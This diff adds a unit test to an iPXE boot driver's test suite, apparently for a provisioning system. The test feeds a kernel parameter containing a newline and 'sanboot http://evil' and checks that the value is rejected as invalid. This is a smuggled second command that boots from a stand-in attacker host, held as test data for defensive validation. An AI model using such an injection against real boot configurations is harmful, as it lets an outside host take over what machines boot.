@@ -52,6 +52,11 @@ class IPXETest(fakes.DriverTestCase):
         task.driver.boot.clean_up_instance(task)
         self.assertEqual({}, task.node.boot_config)
 
+    def test_a_boot_script_cannot_be_extended_by_what_goes_into_it(self) -> None:
+        task = self.task(driver_info={**RAMDISK, "kernel_append_params": "a\nsanboot http://evil"})
+        error = self.assertRaises(errors.Invalid, task.driver.boot.prepare_ramdisk, task, {})
+        self.assertIn("kernel_args", error.message)
+
     def test_what_is_missing_is_named(self) -> None:
         task = self.task(driver_info={})
         error = self.assertRaises(errors.MissingParameter, task.driver.boot.validate, task)
